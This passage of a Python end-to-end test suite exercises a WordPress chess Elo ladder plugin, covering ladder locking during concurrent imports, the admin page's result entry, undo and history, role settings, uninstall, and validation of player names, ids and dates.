    assert "6 111 2" == columns  # the index of two columns: a row each
    answers = rest(wordpress, users["editor"], ("DELETE", f"{route}/import/{old}", None),
                   ("GET", route + "/history", None))
    assert 409 == answers[0][0]
    assert answers[0][1]["message"].startswith("This import was made before the plugin kept what an import adds")
    assert [(int(old), False)] == [(e["id"], e["undoable"]) for e in answers[1][1] if e["action"] == "imported"]


class Held:
    """A ladder's lock (elo_calculator_in_turn) held by a session of its own, as a change being saved holds it; and
    how many sessions wait for a lock."""

    def __init__(self, wordpress: WordPress, slug: str) -> None:
        self.db = wordpress.db
        self.name = wordpress.php(f"echo elo_calculator_lock_name(elo_calculator_ladder({php_quote(slug)}));")
        self.session = subprocess.Popen([str(MARIADB), f"--socket={wordpress.db.socket}", "-uroot", "--batch",
                                         "--skip-column-names", "--unbuffered"], stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, text=True)
        assert self.session.stdin is not None and self.session.stdout is not None
        self.session.stdin.write(f"SELECT GET_LOCK('{self.name}', 0);\n")
        self.session.stdin.flush()
        assert "1" == self.session.stdout.readline().strip()

    def waiting(self) -> int:
        return int(self.db.sql("SELECT COUNT(*) FROM information_schema.processlist WHERE state = 'User lock'"))

    def until_waiting(self, count: int, runs: list[subprocess.Popen[str]]) -> int:
        """Once `count` sessions wait for a lock, or one of `runs` has ended (it did not wait): how many wait."""
        while self.waiting() < count and all(run.poll() is None for run in runs):
            time.sleep(0.05)
        return self.waiting()

    def release(self) -> None:
        assert self.session.stdin is not None
        self.session.stdin.write(f"SELECT RELEASE_LOCK('{self.name}');\n")
        self.session.stdin.close()
        self.session.wait(30)


def test_two_imports_of_one_ladder_at_once_add_its_games_once(wordpress: WordPress, users: dict[str, int]) -> None:
    """Two keepers importing the club's file at the same moment each found the other's games not yet kept, and both
    added them (a known gap of stop 57): the imports of a ladder now take turns. A third session holds the ladder's
    lock while both imports start; both are seen waiting for it; once it is let go, one adds the file's games and the
    other finds them kept."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Imported at once"})
    assert 201 == status
    held = Held(wordpress, ladder["slug"])
    call = rest_code(users["editor"], (("POST", f"/ladders/{ladder['slug']}/import",
                                        {"games": GAMES.read_text(encoding="utf-8")}),))
    runs = [wordpress.php_started(call, as_web=True) for _ in range(2)]
    seen = held.until_waiting(2, runs)  # each import blocks on the lock, or ends
    held.release()
    answers = sorted((answered(wordpress.php_ended(run, call))[0] for run in runs), key=json.dumps)
    # Without the turns, both added, or one was refused (both adding the players: "two players' ids are the same").
    assert [(200, {"games": 0, "players": 0, "repeated": 28, "import": ANY}),
            (200, {"games": 28, "players": 7, "repeated": 0, "import": ANY})] == answers
    assert 2 == seen
    assert 28 == len(one(wordpress, users["editor"], "GET", f"/ladders/{ladder['slug']}")[1]["games"])


def test_every_change_of_a_ladder_waits_its_turn_and_one_kept_waiting_too_long_is_refused_whole(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """A result, a player and the ladder's settings sent while another change is being saved (an import) each wait
    for it: two changes at once each wrote the ladder's files from what it had read, and the last to finish could
    leave the other's change out until the next. One kept waiting longer than ELO_CALCULATOR_LOCK_WAIT (which a
    site's wp-config.php may set: 1 s here) is refused with a 409 that says why, and nothing of it is kept."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Changed at once", **RULES})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    for name in ("Anna Meier", "Ben Roth", "Cleo Sand"):
        assert 201 == one(wordpress, users["editor"], "POST", f"{route}/players", {"name": name})[0]
    game = {"date": "2026-01-10", "white": "Anna Meier", "black": "Ben Roth", "result": "1-0"}
    calls = [rest_code(users["editor"], (("POST", f"{route}/games", game),)),
             rest_code(users["editor"], (("POST", f"{route}/players", {"name": "Dora Lind"}),)),
             rest_code(users["editor"], (("PUT", route, {"k": "20"}),))]
    held = Held(wordpress, ladder["slug"])
    runs = [wordpress.php_started(call, as_web=True) for call in calls]
    seen = held.until_waiting(3, runs)
    late = rest_code(users["editor"], (("POST", f"{route}/games", {**game, "white": "Cleo Sand"}),))
    refused = answered(wordpress.php_ended(wordpress.php_started(
        late, as_web=True, config="define('ELO_CALCULATOR_LOCK_WAIT', 1);\n"), late))
    held.release()
    answers = [answered(wordpress.php_ended(run, call))[0][0] for run, call in zip(runs, calls, strict=True)]
    assert (3, [201, 201, 200]) == (seen, answers)
    assert 409 == refused[0][0]
    assert "Another change to this ladder is still being saved: try again when it has finished." \
        == refused[0][1]["message"]
    kept = one(wordpress, users["editor"], "GET", route)[1]
    assert ([("Anna Meier", "Ben Roth")], 4, "20") == (
        [(g["white"], g["black"]) for g in kept["games"]], len(kept["players"]), kept["rules"]["k"])


def test_the_secretary_enters_results_on_the_admin_page_with_undo_and_history(
        browser: Browser, wordpress: WordPress, users: dict[str, int], tmp_path: Path) -> None:
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(f"{wordpress.origin}/wp-admin/")
        page.get_by_role("link", name="Elo calculator", exact=True).first.click()
        expect(page.get_by_role("heading", name="New ladder")).to_be_visible()
        page.get_by_label("Name").fill("Rapid ladder 2026")
        page.get_by_label("Rating system").select_option("elo")
        page.get_by_role("button", name="Create ladder").click()
        expect(page.get_by_role("heading", name="Rapid ladder 2026")).to_be_visible()
        expect(page.get_by_text('[elo_calculator ladder="rapid-ladder-2026"]')).to_be_visible()

        # The club's files, imported.
        page.get_by_label("Results file (CSV, as a spreadsheet exports it)").set_input_files(str(GAMES))
        page.get_by_label("Players file (optional: id, name, rating, active)").set_input_files(str(PLAYERS))
        page.get_by_role("button", name="Import", exact=True).click()
        status = page.get_by_role("status")
        expect(status).to_have_text("Added: 28 games, 8 new players. Undo")
        expect(page.get_by_role("heading", name="Games (28)")).to_be_visible()
        assert [] == violations(page, "#elo-ladders-app")

        # Tonight's result by the players' names, one button; then Undo.
        page.get_by_label("White (first player)").fill("Anna Meier")
        page.get_by_label("Black (second player)").fill("Ben Keller")
        page.get_by_label("Black (second player)").press("Enter")  # Enter enters no result
        expect(page.get_by_role("heading", name="Games (28)")).to_be_visible()
        page.get_by_role("button", name="Draw ½-½").click()
        expect(status).to_contain_text("Saved: ")
        expect(status).to_contain_text("Anna Meier – Ben Keller 1/2-1/2")
        expect(page.get_by_role("heading", name="Games (29)")).to_be_visible()
        expect(page.get_by_label("White (first player)")).to_be_focused()
        status.get_by_role("button", name="Undo").click()
        expect(status).to_contain_text("Deleted: ")
        expect(page.get_by_role("heading", name="Games (28)")).to_be_visible()
        # A double click enters one game, not two (a hostile pass found two), and Undo takes it away.
        page.get_by_label("White (first player)").fill("Anna Meier")
        page.get_by_label("Black (second player)").fill("Ben Keller")
        page.get_by_role("button", name="Draw ½-½").dblclick()
        expect(status).to_contain_text("Anna Meier – Ben Keller 1/2-1/2")
        expect(page.get_by_role("heading", name="Games (29)")).to_be_visible()
        assert 29 == len(one(wordpress, users["editor"], "GET", "/ladders/rapid-ladder-2026")[1]["games"])
        status.get_by_role("button", name="Undo").click()
        expect(page.get_by_role("heading", name="Games (28)")).to_be_visible()

        # A game deleted from the list, then restored from the history.
        first = page.get_by_role("button", name=re.compile(r"^Delete 2026-02-24 ")).first
        first.click()
        expect(page.get_by_role("heading", name="Games (27)")).to_be_visible()
        history = page.locator("#elo-history")
        expect(history).to_contain_text("Sam Secretary · deleted: 2026-02-24")
        history.get_by_role("button", name="Restore").first.click()
        expect(status).to_contain_text("Restored: 2026-02-24")
        expect(page.get_by_role("heading", name="Games (28)")).to_be_visible()

        # A game edited in its row.
        page.get_by_role("button", name=re.compile(r"^Edit 2026-02-24 ")).first.click()
        page.locator(".elo-games select[name=result]").select_option(label="Black won 0-1")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(status).to_contain_text("Saved: 2026-02-24")
        expect(status).to_contain_text("0-1")
        # Edited again, its date only, while another keeper makes it a draw (this page still shows 0-1): the date
        # is this page's, the result the other keeper's (the row sent every field, and put 0-1 back).
        page.get_by_role("button", name=re.compile(r"^Edit 2026-02-24 .* 0-1$")).click()
        ladder = one(wordpress, users["editor"], "GET", "/ladders/rapid-ladder-2026")[1]
        edited = next(g for g in ladder["games"] if g["date"] == "2026-02-24" and g["result"] == "0-1")
        assert 200 == one(wordpress, 1, "PUT", f"/ladders/rapid-ladder-2026/games/{edited['id']}", {"result": "0.5"})[0]
        page.locator(".elo-games input[name=date]").fill("2026-02-25")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(status).to_contain_text("Saved: 2026-02-25")
        expect(status).to_contain_text("1/2-1/2")

        # A new player, then results pasted a game a line (a name that is no player refuses the paste whole).
        page.get_by_label("Name", exact=True).first.fill("Nora Neu")  # the players' form, before the rules'
        page.get_by_label("Start rating (empty: the ladder's)", exact=True).fill("1400")
        page.get_by_role("button", name="Add player").click()
        expect(status).to_have_text("Saved: Nora Neu")
        expect(page.get_by_role("heading", name="Players (9)")).to_be_visible()
        paste = page.get_by_label("Paste results", exact=True)
        paste.fill("2026-03-10,Nora Neu,Anna Meier,0\n2026-03-10,Zed,Cleo Roth,½")
        page.get_by_role("button", name="Add these games").click()
        expect(status).to_contain_text('Not saved: games: line 2: white: no player "Zed"')
        expect(paste).to_have_value("2026-03-10,Nora Neu,Anna Meier,0\n2026-03-10,Zed,Cleo Roth,½")
        paste.fill("2026-03-10,Nora Neu,Anna Meier,0\n2026-03-10,Ben Keller,Cleo Roth,½")
        page.get_by_role("button", name="Add these games").click()
        expect(status).to_have_text("Added: 2 games, 0 new players. Undo")
        expect(page.get_by_role("heading", name="Games (30)")).to_be_visible()

        # A file an older Excel saved (Windows-1252): its accents kept; its new player added.
        latin = tmp_path / "excel.csv"
        latin.write_bytes("Datum;Weiß;Schwarz;Ergebnis\r\n17.03.2026;Jürgen Groß;Anna Meier;1\r\n".encode("cp1252"))
        page.get_by_label("Results file (CSV, as a spreadsheet exports it)").set_input_files(str(latin))
        page.get_by_label("Players file (optional: id, name, rating, active)").set_input_files([])
        page.get_by_role("button", name="Import", exact=True).click()
        expect(status).to_have_text("Added: 1 games, 1 new players. Undo")
        expect(page.get_by_label("Name Jürgen Groß", exact=True)).to_have_value("Jürgen Groß")
        expect(page.get_by_role("heading", name="Games (31)")).to_be_visible()
        # The wrong file: its Undo takes its game and its new player off (hp115), and the history says so; the
        # club's own import may still be undone from the history.
        status.get_by_role("button", name="Undo").click()
        undone = "Import undone: 1 games and 1 new players taken off, 0 players put back as they were."
        expect(status).to_have_text(undone)
        expect(page.get_by_role("heading", name="Games (30)")).to_be_visible()
        expect(page.get_by_label("Name Jürgen Groß", exact=True)).to_have_count(0)
        latest = history.get_by_role("listitem").first
        expect(latest).to_have_text(re.compile(" · Sam Secretary · " + re.escape(undone)))
        expect(history.get_by_role("button", name=re.compile(r"^Undo this import "))).to_have_count(2)  # the first two
        latin_again = page.get_by_label("Results file (CSV, as a spreadsheet exports it)")
        latin_again.set_input_files(str(latin))
        page.get_by_role("button", name="Import", exact=True).click()
        expect(status).to_have_text("Added: 1 games, 1 new players. Undo")
        expect(page.get_by_role("heading", name="Games (31)")).to_be_visible()
        # From the history it is asked first: "Cancel" leaves it, OK undoes it.
        asked: list[str] = []
        answer = {"accept": False}
        def ask(dialog: Dialog) -> None:
            asked.append(dialog.message)
            (dialog.accept if answer["accept"] else dialog.dismiss)()

        page.on("dialog", ask)
        undo_import = history.get_by_role("button", name=re.compile(r"^Undo this import ")).first
        expect(undo_import).to_have_count(1)
        undo_import.click()
        expect(status).to_have_text("Added: 1 games, 1 new players. Undo")
        assert ["Undo this import? Its 1 games are taken off the ladder, with the players it added who have no other "
                "game; the players it changed are put back as they were."] == asked
        answer["accept"] = True
        undo_import.focus()
        page.keyboard.press("Enter")
        expect(status).to_have_text(undone)
        expect(status).to_be_focused()  # not the page's start: its button is gone (rv92)
        expect(history.get_by_role("listitem").filter(has_text="imported: 1 games, 1 new players, 0 players changed "
                                                                "(undone)")).to_have_count(2)
        page.remove_listener("dialog", ask)
        expect(page.get_by_role("heading", name="Games (30)")).to_be_visible()
        latin_again.set_input_files(str(latin))
        page.get_by_role("button", name="Import", exact=True).click()
        expect(status).to_have_text("Added: 1 games, 1 new players. Undo")
        expect(page.get_by_label("Name Jürgen Groß", exact=True)).to_have_value("Jürgen Groß")
        expect(page.get_by_role("heading", name="Games (31)")).to_be_visible()

        # A name that is no player is refused where it was typed, and nothing is lost.
        page.get_by_label("White (first player)").fill("Nobody")
        page.get_by_label("Black (second player)").fill("Ben Keller")
        page.get_by_role("button", name="White won 1-0").click()
        expect(status).to_contain_text('Not saved: white: the ladder has no player "Nobody"')
        expect(page.get_by_label("White (first player)")).to_have_value("Nobody")
        # Said at the field too, which is marked, described by it and focused (a hostile pass: nothing but the
        # status at the page's top).
        white = page.get_by_label("White (first player)")
        expect(white).to_have_attribute("aria-invalid", "true")
        expect(white).to_be_focused()
        expect(white).to_have_accessible_description(re.compile('the ladder has no player "Nobody"'))
        expect(page.get_by_role("heading", name="Games (31)")).to_be_visible()

        # Text typed in the other forms stays when a result is entered (a hostile pass: the page drawn anew after
        # any change emptied the paste box and the new player's name).
        paste.fill("2026-03-20,Anna Meier,Ben Keller,1")
        page.get_by_label("Name", exact=True).first.fill("Olga Ost")
        page.get_by_label("White (first player)").fill("Cleo Roth")
        page.get_by_role("button", name="White won 1-0").click()
        expect(page.get_by_role("heading", name="Games (32)")).to_be_visible()
        expect(paste).to_have_value("2026-03-20,Anna Meier,Ben Keller,1")
        expect(page.get_by_label("Name", exact=True).first).to_have_value("Olga Ost")
        expect(page.get_by_label("White (first player)")).to_have_value("")  # the form acted on starts anew

        # Another keeper sets K while this page shows the rules as they were; this page then renames the ladder
        # only: K stays the other keeper's (the whole form was sent, and put the old K back).
        assert 200 == one(wordpress, 1, "PUT", "/ladders/rapid-ladder-2026", {"k": "32"})[0]
        page.locator("#elo-rule-name").fill("Rapid ladder 2026/27")
        page.get_by_role("button", name="Save name and rules").click()
        expect(page.get_by_role("heading", name="Rapid ladder 2026/27")).to_be_visible()
        kept = one(wordpress, users["editor"], "GET", "/ladders/rapid-ladder-2026")[1]
        assert (kept["name"], kept["rules"].get("k")) == ("Rapid ladder 2026/27", "32")

        # By keyboard: Edit takes the keyboard to the row's first field, Cancel and Save back to its Edit, Delete to
        # the Undo of what it said (it fell to the page's start: a hostile pass); each Restore names its game.
        edit = page.get_by_role("button", name=re.compile(r"^Edit 2026-03-10 ")).first
        label = edit.get_attribute("aria-label")
        edit.focus()
        page.keyboard.press("Enter")
        expect(page.locator(".elo-games input[name=date]")).to_be_focused()
        page.get_by_role("button", name="Cancel").click()
        expect(page.get_by_role("button", name=label, exact=True)).to_be_focused()
        page.keyboard.press("Enter")
        page.locator(".elo-games input[name=pool]").fill("rapid")
        page.keyboard.press("Enter")  # Save
        expect(status).to_contain_text("Saved: 2026-03-10")
        expect(page.get_by_role("button", name=label, exact=True)).to_be_focused()  # its text has no pool
        # An edit has its Undo too, which puts back what it changed (it had none: a hostile pass).
        game_id = int(str(page.get_by_role("button", name=label, exact=True).get_attribute("id")).split("-")[2])
        def pool_of_game() -> str:
            games = one(wordpress, users["editor"], "GET", "/ladders/rapid-ladder-2026")[1]["games"]
            return str(next(g["pool"] for g in games if g["id"] == game_id))

        assert pool_of_game() == "rapid"
        status.get_by_role("button", name="Undo").click()
        expect(status).to_contain_text("Saved: 2026-03-10")
        expect(status.get_by_role("button", name="Undo")).to_be_hidden()
        assert pool_of_game() == ""
        page.get_by_role("button", name=re.compile(r"^Delete 2026-03-10 ")).first.click()
        expect(status.get_by_role("button", name="Undo")).to_be_focused()
        history = page.locator("#elo-history")
        expect(history.get_by_role("button", name=re.compile(r"^Restore 2026-")).first).to_be_visible()
        # On a phone the games' table scrolls in its own box: the page is no wider than the screen.
        page.set_viewport_size({"width": 375, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= 375
    finally:
        context.close()


def test_uninstall_keeps_the_ladders_unless_the_settings_say_delete_them(
        admin: BrowserContext, wordpress: WordPress, users: dict[str, int], plugin_zip: Path) -> None:
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Kept ladder"})
    assert 201 == status
    tables = "SHOW TABLES FROM wordpress LIKE 'wp\\_elo\\_calculator\\_%'"

    def uninstall() -> None:
        assert "deleted" == wordpress.php(
            f"deactivate_plugins('{PLUGIN}'); $r = delete_plugins(array('{PLUGIN}'));"
            "echo true === $r ? 'deleted' : (is_wp_error($r) ? $r->get_error_message() : var_export($r, true));")

    try:
        uninstall()
        assert 4 == len(wordpress.db.sql(tables).split())
        wordpress.install_plugin(plugin_zip)
        assert "Kept ladder" == one(wordpress, users["editor"], "GET", f"/ladders/{ladder['slug']}")[1]["name"]

        page = admin.new_page()
        page.goto(f"{wordpress.origin}/wp-admin/options-general.php?page=elo-calculator")
        page.get_by_label("Delete the ladders (their games, players, history and files) when the plugin is "
                          "deleted").check()
        page.get_by_role("button", name="Save Changes").click()
        expect(page.get_by_text("Settings saved.")).to_be_visible()
        page.close()
        uninstall()
        assert [] == wordpress.db.sql(tables).split()
        assert not (wordpress.root / "wp-content" / "uploads" / "elo-calculator").exists()
        assert "" == wordpress.db.sql("SELECT option_name FROM wordpress.wp_options WHERE option_name LIKE "
                                      "'elo\\_calculator%' OR option_value LIKE '%elo\\_calculator%'").strip()
    finally:
        if PLUGIN not in wordpress.php("echo implode(',', get_option('active_plugins'));"):
            wordpress.install_plugin(plugin_zip)  # the other tests' plugin, as it was


def test_the_administrator_gives_a_role_the_keeping_of_ladders_in_the_settings(
        admin: BrowserContext, wordpress: WordPress, users: dict[str, int]) -> None:
    own = "Author: Keeps the ladders they create"
    status, editors = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Editor's own"})
    assert 201 == status
    page = admin.new_page()
    try:
        page.goto(f"{wordpress.origin}/wp-admin/options-general.php?page=elo-calculator")
        expect(page.get_by_role("heading", name="Who keeps ladders")).to_be_visible()
        expect(page.get_by_label("Editor: Keeps every ladder")).to_be_checked()
        expect(page.get_by_label("Administrator: Keeps every ladder")).to_be_disabled()
        expect(page.get_by_label(own)).not_to_be_checked()
        page.get_by_label(own).check()
        page.get_by_role("button", name="Save Changes").click()
        expect(page.get_by_text("Settings saved.")).to_be_visible()
        expect(page.get_by_label(own)).to_be_checked()
        status, made = one(wordpress, users["author"], "POST", "/ladders", {"name": "Author's ladder"})
        assert 201 == status and users["author"] == made["owner"]
        assert 403 == one(wordpress, users["author"], "PUT", f"/ladders/{editors['slug']}", {"k": "40"})[0]

        page.get_by_label(own).uncheck()
        page.get_by_role("button", name="Save Changes").click()
        expect(page.get_by_text("Settings saved.")).to_be_visible()
        assert 403 == one(wordpress, users["author"], "POST", "/ladders", {"name": "Another"})[0]
        assert 200 == one(wordpress, users["editor"], "PUT", f"/ladders/{editors['slug']}", {"k": "40"})[0]
    finally:
        page.close()
        wordpress.php("get_role('author')->remove_cap('elo_calculator_keep_ladders');")


def test_ids_and_names_are_one_player_s_letter_case_aside_and_odd_values_are_refused_by_field(
        wordpress: WordPress, users: dict[str, int]) -> None:
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Case ladder"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}/players"
    answers = rest(wordpress, users["editor"], ("POST", route, {"id": "AM", "name": "Anna Meier"}),
                   ("POST", route, {"id": "am", "name": "Other"}),
                   ("POST", route, {"id": "X1", "name": "anna meier"}),
                   ("POST", route, {"name": "\u202eevil"}), ("POST", route, {"name": "a\u0080b"}),
                   ("POST", route, {"name": "Ben", "active": "maybe"}), ("POST", route, {"name": "Ben", "active": []}),
                   ("POST", route, {"name": "Ben", "rating": "4001"}), ("POST", route, {"name": "Ben", "rating": {}}),
                   ("POST", route, {"name": "Ben", "rating": "1.850", "active": "Nein"}),
                   ("PUT", route, {"id": "nobody", "name": "X"}), ("PUT", route, {"id": "AM", "rating": "1900"}))
    assert [(201, None), (409, "id"), (409, "name"), (400, "name"), (400, "name"), (400, "active"), (400, "active"),
            (400, "rating"), (400, "rating"), (201, None), (404, "id"), (200, None)] == [
        (s, a.get("data", {}).get("field")) for s, a in answers]
    assert {"id": "Ben", "name": "Ben", "rating": "1850", "active": False} == answers[9][1]
    assert "1900" == answers[11][1]["rating"]
    game = {"date": "2026-03-03", "white": "anna MEIER", "black": "ben", "result": "1"}
    answers = rest(wordpress, users["editor"], ("POST", f"/ladders/{ladder['slug']}/games", game),
                   ("POST", f"/ladders/{ladder['slug']}/games", {**game, "pool": ["x"]}))
    assert (201, "AM", "Ben") == (answers[0][0], answers[0][1]["white"], answers[0][1]["black"])
    assert (400, "pool") == (answers[1][0], answers[1][1]["data"]["field"])


def test_numbers_as_ids_import_and_paste_and_odd_files_read_as_the_ladder_view_reads_them(
        wordpress: WordPress, users: dict[str, int]) -> None:
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Numbers ladder"})
    assert 201 == status
    slug = ladder["slug"]
    # A players header without an id column (the name is the id), a rating with a thousands separator, a
    # German "retired", and a Mac's CR-only line ends.
    players = "nr,name,wertung,aktiv\r1,Anna,1.850,ja\r2,Ben,1600,Ausgetreten\r3,Cleo,,\r"
    answers = rest(wordpress, users["editor"], ("POST", f"/ladders/{slug}/import",
                                                {"games": "2026-03-03,1,2,1-0\r", "players": players}),
                   ("POST", f"/ladders/{slug}/import", {"games": "2026-03-10,2,3,0\n", "new_players": False}),
                   ("POST", f"/ladders/{slug}/import", {"games": "2026-03-17,1,3,=\n", "players": players}),
                   ("GET", f"/ladders/{slug}", None))
    assert [(200, {"games": 1, "players": 3, "repeated": 0, "import": ANY}),
            (200, {"games": 1, "players": 0, "repeated": 0, "import": ANY}),
            (200, {"games": 1, "players": 0, "repeated": 0, "import": ANY})] == answers[:3]
    got = answers[3][1]
    assert [("1", "Anna", "1850", True), ("2", "Ben", "1600", False), ("3", "Cleo", "", True)] == [
        (p["id"], p["name"], p["rating"], p["active"]) for p in got["players"]]
    assert [("1", "2", "1-0"), ("2", "3", "0-1"), ("1", "3", "1/2-1/2")] == [
        (g["white"], g["black"], g["result"]) for g in got["games"]]
    names = "name,rating\nAnna,1500\nBen,1400\n"  # header without id: the names are the ids
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Names ladder"})
    status, done = one(wordpress, users["editor"], "POST", f"/ladders/{ladder['slug']}/import",
                       {"games": "date;white;black;result\n03.03.2026;Anna;Ben;0,5\n", "players": names})
    assert (200, {"games": 1, "players": 2, "repeated": 0, "import": ANY}) == (status, done)


def test_a_deleted_ladder_s_slug_is_not_given_again_and_an_odd_address_shows_the_page(
        page: Page, wordpress: WordPress, users: dict[str, int]) -> None:
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Season 2025"})
    assert (201, "season-2025") == (status, ladder["slug"])
    assert 200 == one(wordpress, users["editor"], "DELETE", "/ladders/season-2025")[0]
    status, again = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Season 2025"})
    assert (201, "season-2025-2") == (status, again["slug"])
    assert 404 == one(wordpress, users["editor"], "GET", "/ladders/season-2025")[0]


def test_a_long_ladder_s_admin_page_lists_its_latest_games_and_says_so(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """A ladder may hold 100 000 games: the page lists the latest 200, newest first, and says how many there are."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Long ladder"})
    assert 201 == status
    games = "".join(f"2026-{1 + n // 28:02d}-{1 + n % 28:02d},Anna,Ben,{n % 3 / 2}\n" for n in range(250))
    assert (200, {"games": 250, "players": 2, "repeated": 0, "import": ANY}) == one(wordpress, users["editor"], "POST",
                                                      f"/ladders/{ladder['slug']}/import", {"games": games})
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name="Games (250)")).to_be_visible()
        said = "The latest 200 of 250 games, newest first; every game is in the export."
        expect(page.get_by_text(said)).to_be_visible()
        expect(page.locator(".elo-games > tbody > tr")).to_have_count(200)
        expect(page.locator(".elo-games > tbody > tr").first).to_contain_text("2026-09-26")  # the newest
    finally:
        context.close()


def test_a_result_s_date_ends_tomorrow_and_names_never_stand_for_two_players(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """A hostile pass's findings. A year mistyped (2062 for 2026) made the ladder's last date decades ahead, and
    every player inactive: a result's date ends tomorrow, typed or imported. A player's id that is another's name
    sent a result to the wrong one: no name is another player's id, nor two players' (an import too). Names with
    invisible formatting characters (a direction mark, a soft hyphen) looked like another's and were kept."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Hostile pass ladder"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    latest = wordpress.php("echo wp_date('Y-m-d', time() + DAY_IN_SECONDS);")  # tomorrow, the site's
    later = wordpress.php("echo wp_date('Y-m-d', time() + 3 * DAY_IN_SECONDS);")
    answers = rest(wordpress, users["editor"], ("POST", route + "/players", {"id": "Bob Smith", "name": "Bob Smith"}),
                   ("POST", route + "/players", {"id": "CZ", "name": "Cleo Z"}),
                   ("PUT", route + "/players", {"id": "Bob Smith", "name": "Robert Smith-Jones"}),
                   ("POST", route + "/players", {"id": "bob2", "name": "bob smith"}),
                   ("POST", route + "/players", {"id": "cleo z", "name": "Cleo Zed"}),
                   ("POST", route + "/games", {"date": later, "white": "Bob Smith", "black": "CZ", "result": "1"}),
                   ("POST", route + "/games", {"date": latest, "white": "Bob Smith", "black": "CZ", "result": "1"}),
                   *[("POST", route + "/players", {"name": f"Anna{mark}Meier"})
                     for mark in ("\u200f", "\u200e", "\u061c", "\u00ad", "\u034f")])
    assert [(201, None), (201, None), (200, None), (409, "name"), (409, "id"), (400, "date"), (201, None),
            *[(400, "name")] * 5] == [(s, a.get("data", {}).get("field")) for s, a in answers], answers
    assert "a result is entered once its game is played" in answers[5][1]["message"]
    assert "Robert Smith-Jones" in answers[3][1]["message"]
    # An import: a line dated years ahead refuses the file; a players file that gives two players one name, or a
    # name that is another's id, too; nothing is written.
    before = one(wordpress, users["editor"], "GET", route)[1]
    refused = rest(wordpress, users["editor"],
                   ("POST", route + "/import", {"games": "2062-03-10,Bob Smith,CZ,1-0\n"}),
                   ("POST", route + "/import", {"games": f"{latest},Bob Smith,CZ,0-1\n",
                                                "players": "id,name\nBob Smith,Cleo Z\n"}),
                   ("POST", route + "/import", {"games": f"{latest},Bob Smith,CZ,0-1\n",
                                                "players": "id,name\nCZ,Bob Smith\n"}))
    assert [(400, "games"), (409, "players"), (409, "players")] == [
        (s, a["data"]["field"]) for s, a in refused], refused
    assert "line 1: date:" in refused[0][1]["message"]
    assert before == one(wordpress, users["editor"], "GET", route)[1]


def test_an_id_the_database_takes_for_another_s_is_refused_by_its_field_with_the_other_named(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """The site's collation takes "Jose Garcia" for "José Garcia" and "Strauss" for "Strauß" (the ladder view takes
    the second pair for one player too): the second of each was refused with "The database did not save the
    change" (a hostile pass). It is refused at its id, naming the player it is taken for; an import, by its
    players; the one with an id of its own is kept."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Accents ladder"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    answers = rest(wordpress, users["editor"], *[("POST", route + "/players", {"name": name}) for name in (
        "José Garcia", "Jose Garcia", "Anton Strauß", "Anton Strauss")],
                   ("POST", route + "/players", {"id": "jgarcia", "name": "Jose Garcia"}),
                   ("POST", route + "/import", {"games": "2026-03-03,Anna,Änna,1\n",
                                                "players": "id,name\nAnna,Anna B\nÄnna,Anna C\n"}))
    assert [(201, None), (409, "id"), (201, None), (409, "id"), (201, None), (409, "players")] == [
        (s, a.get("data", {}).get("field")) for s, a in answers], answers
    assert 'the id "José Garcia" of José Garcia' in answers[1][1]["message"]
    assert ["José Garcia", "Anton Strauß", "Jose Garcia"] == [
        p["name"] for p in one(wordpress, users["editor"], "GET", route)[1]["players"]]


def test_ladder_rights_taken_from_editors_stay_taken_through_a_reactivation_and_keeping_others_alone_has_the_page(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """The settings take the keeping of ladders from Editors; a deactivation and an activation (or an update) gave it
    back. A role given only the keeping of others' ladders (as the readme says one may be) had no page."""
    caps = "echo wp_json_encode(array(get_role('editor')->has_cap('elo_calculator_keep_ladders'), " \
           "get_role('editor')->has_cap('elo_calculator_keep_others_ladders')));"
    try:
        wordpress.php("foreach (array('elo_calculator_keep_ladders', 'elo_calculator_keep_others_ladders') as $c) "
                      "get_role('editor')->remove_cap($c);")
        wordpress.php(f"deactivate_plugins('{PLUGIN}'); $r = activate_plugin('{PLUGIN}'); "
                      "if (is_wp_error($r)) echo $r->get_error_message();")
        assert [False, False] == json.loads(wordpress.php(caps))
        assert 403 == one(wordpress, users["editor"], "POST", "/ladders", {"name": "Not allowed"})[0]
        wordpress.php("get_role('contributor')->add_cap('elo_calculator_keep_others_ladders');")
        page = wordpress.php(f"wp_set_current_user({users['contributor']}); elo_calculator_ladders_page();")
        assert 'id="elo-ladders-app"' in page
    finally:
        wordpress.php("foreach (array('elo_calculator_keep_ladders', 'elo_calculator_keep_others_ladders') as $c) "
                      "{ get_role('editor')->add_cap($c); get_role('contributor')->remove_cap($c); }")


def test_a_ladder_of_100_000_games_takes_a_result_and_writes_its_files_within_128_mb(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """A shared host's PHP (Debian's Apache: 128 MB). Writing the games file held every game as arrays and then as
    one text: from some 70 000 games, every change was saved and then ended in a fatal error, and the public files
    stayed as they were (a hostile pass). 100 000, the most a ladder holds, with a result entered on top."""
